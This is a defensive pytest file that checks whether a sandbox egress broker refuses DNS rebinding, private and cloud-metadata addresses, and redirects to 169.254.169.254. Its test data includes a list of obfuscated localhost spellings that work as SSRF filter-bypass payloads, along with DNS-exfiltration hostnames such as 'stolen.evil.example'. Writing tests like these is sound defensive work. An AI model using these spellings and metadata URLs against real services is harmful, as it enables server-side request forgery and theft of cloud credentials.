"""Attacks by name and address: rebinding, odd spellings, metadata, exfiltration through DNS, relays."""

from __future__ import annotations

import pytest

from broker.domain.run import EgressKind, EgressRule, EgressVerdict
from tests.egress_support import NAME, Tool, World, http_rule, ok, saying, serving


async def test_dns_rebinding_between_check_and_connection_finds_no_second_answer() -> None:
    async with serving(saying(ok())) as host:
        world = World(http_rule(host.port), names={NAME: [("127.0.0.1",), ("169.254.169.254",)]})
        answer = await world.ask(f"http://{NAME}:{host.port}/")
    assert (answer.status, answer.body) == (200, b"fine")
    assert world.names.asked == [NAME]


async def test_dns_rebinding_between_two_requests_is_seen_at_the_second() -> None:
    async with serving(saying(ok())) as host:
        world = World(http_rule(host.port), names={NAME: [("127.0.0.1",), ("10.0.0.1",)]})
        await world.ask(f"http://{NAME}:{host.port}/")
        answer = await world.ask(f"http://{NAME}:{host.port}/")
        assert host.connections == 1
    assert (answer.status, answer.verdict) == (403, "ADDRESS_REFUSED")
    assert b"10.0.0.1" not in answer.body


@pytest.mark.parametrize(
    "answer",
    [("127.0.0.1", "10.0.0.1"), ("169.254.169.254", "127.0.0.1"), ("127.0.0.1", "::1"), ("127.0.0.1", "fd00:ec2::254")],
)
async def test_a_name_with_one_good_and_one_bad_address_is_refused_whole(answer: tuple[str, ...]) -> None:
    async with serving(saying(ok())) as host:
        world = World(http_rule(host.port), names={NAME: [answer]})
        refused = await world.ask(f"http://{NAME}:{host.port}/")
        assert host.connections == 0
    assert refused.verdict == "ADDRESS_REFUSED"
    assert world.record.verdict is EgressVerdict.ADDRESS_REFUSED


@pytest.mark.parametrize(
    "address",
    ["127.0.0.1", "10.1.2.3", "169.254.169.254", "100.100.100.200", "168.63.129.16", "0.0.0.0", "::1", "::ffff:127.0.0.1",  # noqa: S104  # refused
     "64:ff9b::7f00:1", "2002:7f00:1::", "fe80::1", "fd00:ec2::254", "224.0.0.1", "255.255.255.255"],
)  # fmt: skip
async def test_a_listed_name_that_leads_inside_is_refused_for_every_kind(address: str) -> None:
    rules = (
        http_rule(8080),
        EgressRule(EgressKind.CONNECT, NAME, 443),
        EgressRule(EgressKind.TCP, NAME, 22, listen=2222),
    )
    world = World(*rules, names={NAME: [(address,)]}, networks=())
    assert (await world.ask(f"http://{NAME}:8080/")).verdict == "ADDRESS_REFUSED"
    assert b"ADDRESS_REFUSED" in await world.raw(f"CONNECT {NAME}:443 HTTP/1.1\r\nHost: {NAME}:443\r\n\r\n".encode())
    assert await world.raw(b"SSH-2.0", listener=2222) == b""
    assert world.verdicts == {EgressVerdict.ADDRESS_REFUSED: 1}
    assert len(world.session.records()) == 3


@pytest.mark.parametrize(
    "spelling",
    ["0x7f.1", "0x7f.0.0.1", "2130706433", "017700000001", "0177.0.0.1", "127.1", "127.0.0.1.", "127.0.0.01", "0",
     "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::1%25eth0]", "[::1%eth0]", "[0:0:0:0:0:0:0:1]", "[::127.0.0.1]",
     "%31%32%37.0.0.1", "127.0.0.1%2f", "127。0。0。1", "①②⑦.0.0.1", "127.0.0.1\x00", "localhost", "LOCALHOST."],
)  # fmt: skip
async def test_an_address_in_an_odd_spelling_reaches_nothing(spelling: str) -> None:
    async with serving(saying(ok())) as host:
        rule = EgressRule(EgressKind.HTTP, "127.0.0.1", host.port)
        world = World(rule, EgressRule(EgressKind.CONNECT, "127.0.0.1", host.port))
        request = f"GET http://{spelling}:{host.port}/ HTTP/1.1\r\nHost: {spelling}:{host.port}\r\n\r\n"
        connect = f"CONNECT {spelling}:{host.port} HTTP/1.1\r\nHost: {spelling}:{host.port}\r\n\r\n"
        for raw in (request, connect):
            answer = await world.raw(raw.encode())
            assert answer.startswith((b"HTTP/1.1 400 ", b"HTTP/1.1 403 "))
        assert host.connections == 0
    assert world.names.asked == []


async def test_an_address_is_reached_in_the_spelling_of_its_rule() -> None:
    async with serving(saying(ok())) as host:
        world = World(EgressRule(EgressKind.HTTP, "127.0.0.1", host.port))
        assert (await world.ask(f"http://127.0.0.1:{host.port}/")).status == 200


async def test_dns_exfiltration_an_unlisted_host_is_never_resolved() -> None:
    world = World(http_rule(80), EgressRule(EgressKind.CONNECT, NAME, 443))
    for name in (f"cGFzc3dvcmQ.{NAME}", "stolen.evil.example", f"{NAME}.evil.example", f"x{NAME}"):
        assert (await world.ask(f"http://{name}/")).verdict == "NOT_LISTED"
        raw = await world.raw(f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n".encode())
        assert b"Broker-Verdict: NOT_LISTED" in raw
    assert world.names.asked == []
    assert all(not record.listed for record in world.session.records())


async def test_a_relay_on_another_port_of_a_listed_host_is_refused() -> None:
    async with serving(saying(ok())) as host:
        world = World(http_rule(host.port))
        answer = await world.ask(f"http://{NAME}:{host.port + 1 if host.port < 65535 else 1}/")
        assert host.connections == 0
    assert answer.verdict == "NOT_LISTED"
    assert not world.record.listed


async def test_a_redirect_to_the_metadata_address_is_passed_on_and_never_followed() -> None:
    redirect = b"HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/latest/meta-data/\r\nContent-Length: 0\r\n\r\n"
    async with serving(saying(redirect)) as host:
        world = World(http_rule(host.port))
        answer = await world.ask(f"http://{NAME}:{host.port}/")
        assert host.connections == 1
    assert (answer.status, answer.headers["Location"]) == (302, "http://169.254.169.254/latest/meta-data/")
    assert (await world.ask("http://169.254.169.254/latest/meta-data/")).verdict == "NOT_LISTED"


async def test_a_connection_to_a_port_of_the_sandbox_that_no_rule_has_is_closed() -> None:
    world = World(http_rule(80))
    tool = Tool(world.session, listener=9999)
    assert await tool.all() == b""
    assert (world.record.port, world.record.verdict) == (9999, EgressVerdict.NOT_LISTED)


async def test_a_name_that_has_no_address_is_told_as_such() -> None:
    world = World(http_rule(80), names={})
    answer = await world.ask(f"http://{NAME}/")
    assert (answer.status, answer.verdict) == (502, "UNRESOLVED")
    assert world.record.listed
